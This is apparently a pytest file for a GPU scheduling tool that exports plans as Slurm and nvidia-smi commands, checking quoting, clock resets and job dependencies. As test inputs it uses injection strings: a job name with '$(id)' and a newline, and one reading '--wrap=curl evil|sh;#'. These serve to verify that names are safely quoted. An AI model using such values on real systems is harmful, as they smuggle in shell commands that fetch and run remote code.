"""A plan as commands: names are quoted, clocks are in MHz, what is set is reset."""

from __future__ import annotations

import csv
import io
import shlex
import subprocess
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from subprocess import DEVNULL
from zoneinfo import ZoneInfo

import click
import numpy as np
import pytest

from downclock.adapters.export import TARGETS, exported, nvidia_smi, runs_of
from downclock.adapters.settings import setting_at
from downclock.cli.export import command
from downclock.columns import taken
from downclock.errors import InvalidInput
from downclock.power.library_file import library_document, library_of_document, read_library
from downclock.power.points import PowerLimits
from downclock.problem.graph import Edges
from downclock.problem.platform import Kind, Platform, ServerSpec
from downclock.problem.problem import Problem
from downclock.problem.tasks import Tasks
from downclock.schedule.schedule import Outcomes, PowerSpans, Schedule, Segments

NEW = "\n"
HOSTILE = f"a'b $(id){NEW};x"


def _plan() -> tuple[Problem, Schedule]:
    """Two tasks on two servers: one GPU for 90 s, then two GPUs of one server at another clock."""
    library = read_library("builtin:a100")
    kind = Kind.of(library, "a100")
    platform = Platform.build([kind], [ServerSpec("gpu", (("a100", 2),), count=2)])
    tasks = Tasks.of([0, 0], deadline_s=1e4, processors=[1, 2], name=["train", HOSTILE])
    epoch = datetime(2026, 11, 17, 2, tzinfo=UTC)
    problem = Problem(tasks, library, platform, epoch=epoch)
    ratio = np.array([705 / 1410, 1.0, 1.0]), np.array([1.0, 1.0, 1.0])
    segments = Segments.of(
        np.array([0, 1, 1]),
        np.array([1, 2, 3]),
        np.array([0.0, 60.0, 60.0]),
        np.array([90.0, 120.0, 120.0]),
        np.array([ratio[0], ratio[1], ratio[1]]),
    )
    none = np.empty(0)
    outcomes = Outcomes(np.zeros(2, np.int64), np.array(["", ""], dtype=object), np.ones(2))
    return problem, Schedule(segments, PowerSpans(none, none, none, none), outcomes, "by hand")


def test_sbatch_has_node_start_clock_and_limit_with_names_quoted() -> None:
    lines = exported(*_plan(), "sbatch", "jobs/{task}.sh").splitlines()
    assert lines[0] == "# 2026-11-17T02:00:00+00:00: train"
    words = shlex.split(lines[1])
    assert words == ["sbatch", "--job-name=train", "--begin=uts1794880800",
                     "--nodelist=gpu1", "--nodes=1", "--gres=gpu:1", "--time=3",
                     "--gpu-freq=705", "jobs/train.sh"]  # fmt: skip
    second = shlex.split(exported(*_plan(), "sbatch", "x"), comments=True)
    assert f"--job-name={HOSTILE}" in second
    assert "--gres=gpu:2" in second


def test_no_name_is_an_option_of_sbatch() -> None:
    problem, schedule = _plan()
    problem.tasks.name[0] = "--wrap=curl evil|sh;#"
    (line,) = [
        e
        for e in exported(problem, schedule, "sbatch", "{task}").splitlines()
        if "evil" in e and e[0] != "#"
    ]
    assert shlex.split(line)[-1] == "./--wrap=curl evil|sh;#"


def test_a_job_that_runs_a_little_over_is_not_ended() -> None:
    """An hour: a tenth and a minute more."""
    run = replace(runs_of(*_plan())[0], start_s=0.0, end_s=3600.0)
    assert run.minutes == 67


@pytest.mark.parametrize("zone", ["UTC", "Europe/Berlin", "America/Los_Angeles"])
def test_a_start_is_the_same_instant_in_every_zone(zone: str) -> None:
    problem, schedule = _plan()
    assert problem.epoch is not None
    moved = replace(problem, epoch=problem.epoch.astimezone(ZoneInfo(zone)))
    assert [run.begin for run in runs_of(moved, schedule)] == ["uts1794880800", "uts1794880860"]
    without = replace(problem, epoch=None)
    assert [run.begin for run in runs_of(without, schedule)] == ["now+0", "now+60"]
    assert replace(runs_of(without, schedule)[0], start_s=-1e-12).begin == "now+0"


def test_scontrol_changes_and_releases() -> None:
    words = shlex.split(exported(*_plan(), "scontrol", ""), comments=True)
    assert words[:2] == ["scontrol", "update"]
    assert words.count("release") == 2
    assert f"jobname={HOSTILE}" in words
    assert "TresFreq=gpu:1410" in words


def test_nvidia_smi_sets_and_resets_in_the_order_of_time() -> None:
    lines = exported(*_plan(), "nvidia-smi", "").splitlines()
    assert [line for line in lines if not line.startswith("#")] == [
        "nvidia-smi -i 1 -lgc 705,705",
        "nvidia-smi -i 0,1 -lgc 1410,1410",
        "nvidia-smi -i 1 -rgc",
        "nvidia-smi -i 0,1 -rgc",
    ]
    assert lines[0] == "# 2026-11-17T02:00:00+00:00 on gpu1: train starts"
    assert all("\n" not in line for line in lines)


def _gang() -> tuple[Problem, Schedule]:
    """Twelve GPUs on two servers of eight, then two of the other kind on a mixed server.

    The second waits for the first, a third for both; none may start before they have ended.
    """
    library = read_library("builtin:a100")
    document = library_document(library)
    document["kinds"]["b100"] = document["kinds"]["a100"]
    for each in document["applications"]:
        each["profiles"]["b100"] = each["profiles"]["a100"]
    library = library_of_document(document, "both")
    kinds = [Kind.of(library, name) for name in ("a100", "b100")]
    mixed = ServerSpec("mixed", (("a100", 2), ("b100", 4)))
    platform = Platform.build(kinds, [ServerSpec("gpu", (("a100", 8),), count=2), mixed])
    names = ["simulate", HOSTILE, "plot"]
    tasks = Tasks.of([0, 0, 0], deadline_s=1e4, processors=[12, 2, 1], name=names)
    edges = Edges(np.array([0, 0, 1]), np.array([1, 2, 2]))
    problem = Problem(tasks, library, platform, edges=edges)
    processors = np.array([*range(12), 18, 19, 16])
    task = np.array([0] * 12 + [1, 1, 2])
    segments = Segments.of(task, processors, task * 60.0, task * 60.0 + 60.0, np.ones((15, 3)))
    none = np.empty(0)
    spans = PowerSpans(none, none, none, none)
    return problem, Schedule(segments, spans, Outcomes.all_done(3), "by hand")


def test_a_job_behind_a_milestone_waits_for_what_that_waits_for() -> None:
    """A task without work has no rows, and no command."""
    problem, schedule = _gang()
    tasks = replace(problem.tasks, scale=np.array([1.0, 0.0, 1.0]))
    edges = Edges(np.array([0, 1]), np.array([1, 2]))
    through = replace(problem, tasks=tasks, edges=edges)
    rows = taken(schedule.segments, schedule.segments.task != 1)
    first, last = runs_of(through, replace(schedule, segments=rows))
    assert (first.after, last.after) == ((), (first,))


def _done(script: str, folder: Path, **programs: str) -> None:
    """Run a script of ours by a shell that has these programs."""
    for name, body in programs.items():
        (folder / name).write_text(f"#!/bin/sh\n{body}\n")
        (folder / name).chmod(0o755)
    path = {"PATH": f"{folder}:/usr/bin:/bin"}
    subprocess.run(["sh", "-euc", script], cwd=folder, env=path, check=True, stdout=DEVNULL)


def test_sbatch_asks_for_the_gpus_of_the_plan_and_waits_for_what_comes_before(
    tmp_path: Path,
) -> None:
    """Slurm gives --gpus=12 on two servers of eight as 8 + 4; --gres=gpu:8 would be 16."""
    number = "echo >> number; wc -l < number | tr -d ' \\n'; echo ';cluster'"
    noted = "printf '%s\\0' \"$@\" '' >> told"
    _done(exported(*_gang(), "sbatch", "{task}.sh"), tmp_path, sbatch=f"{noted}; {number}")
    told = [each.split("\0") for each in (tmp_path / "told").read_text().split("\0\0")[:-1]]
    options = ("--nodes", "--g", "--dep")
    asked = [[w for w in each if w.startswith(options) and "freq" not in w] for each in told]
    assert asked == [
        ["--nodes=2", "--gpus=12"],
        ["--nodes=1", "--gres=gpu:b100:2", "--dependency=afterok:1"],
        ["--nodes=1", "--gres=gpu:a100:1", "--dependency=afterok:1:2"],
    ]
    assert [each[-1] for each in told] == ["simulate.sh", f"{HOSTILE}.sh", "plot.sh"]


def test_scontrol_has_nodes_and_what_comes_before(tmp_path: Path) -> None:
    text = exported(*_gang(), "scontrol", "")
    number = 'echo "$1 $4" >> names; echo 7'
    _done(text, tmp_path, squeue=number, scontrol="echo $* >> told")
    told = [line for line in (tmp_path / "told").read_text().splitlines() if "update" in line]
    assert "ReqNodeList=gpu1,gpu2 NumNodes=2 TresFreq" in told[0]
    assert [line.partition("Dependency=")[2] for line in told] == ["", "afterok:7", "afterok:7:7"]
    assert (tmp_path / "names").read_text().count(f"--me --name={HOSTILE}") == 1
    assert "# as submitted: --gres=gpu:b100:2" in text.splitlines()
    problem, schedule = _gang()
    problem.tasks.name[0] = "a,b"
    with pytest.raises(InvalidInput, match=r"'a,b'.*squeue takes a comma"):
        exported(problem, schedule, "scontrol", "")


def test_nvidia_smi_and_csv_say_what_comes_before() -> None:
    lines = exported(*_gang(), "nvidia-smi", "").splitlines()
    assert f"# now+120 on mixed: plot starts after simulate, {HOSTILE.replace(NEW, '?')}" in lines
    assert lines[1] == "nvidia-smi -i 0,1,2,3,4,5,6,7 -lgc 1410,1410"
    assert lines[3] == "nvidia-smi -i 0,1,2,3 -lgc 1410,1410"
    rows = list(csv.DictReader(io.StringIO(exported(*_gang(), "csv", ""))))
    assert [(row["kind"], row["after"]) for row in rows] == [
        ("a100", ""),
        ("b100", "simulate"),
        ("a100", f"simulate;{HOSTILE}"),
    ]


def test_a_power_limit_goes_back_to_the_default_one() -> None:
    """nvidia-smi takes watts and no word for the default limit."""
    problem, schedule = _plan()
    limits = PowerLimits(np.array([200.0, 300.0]), 300.0)
    kind = replace(problem.platform.kinds[0], clocks=limits)
    runs = [
        replace(run, setting=setting_at(kind.clocks, (2 / 3, 1.0, 1.0)), default_limit_w=300.0)
        for run in runs_of(problem, schedule)
    ]
    commands = [line for line in nvidia_smi(runs) if not line.startswith("#")]
    assert commands[0] == "nvidia-smi -i 1 -pl 200"
    assert commands[2] == "nvidia-smi -i 1 -pl 300"


def test_the_command_offers_what_can_be_written() -> None:
    (to,) = [each for each in command.params if each.name == "target"]
    assert isinstance(to.type, click.Choice)
    assert tuple(to.type.choices) == TARGETS


def test_csv_reads_back() -> None:
    rows = list(csv.DictReader(io.StringIO(exported(*_plan(), "csv", ""))))
    assert [row["task"] for row in rows] == ["train", HOSTILE]
    assert [(row["servers"], row["gpus"], row["core_mhz"]) for row in rows] == [
        ("gpu1", "1", "705"),
        ("gpu2", "0,1", "1410"),
    ]


def test_what_no_command_says_is_refused() -> None:
    problem, schedule = _plan()
    segments = schedule.segments
    parts = Segments.of(
        np.array([0, 0]), np.array([0, 0]), np.array([0.0, 50.0]), np.array([20.0, 90.0]),
        segments.points[:2], 0.5,
    )  # fmt: skip
    with pytest.raises(InvalidInput, match='plan it with clock = "locked"'):
        runs_of(problem, Schedule(parts, schedule.spans, schedule.outcomes, "x"))
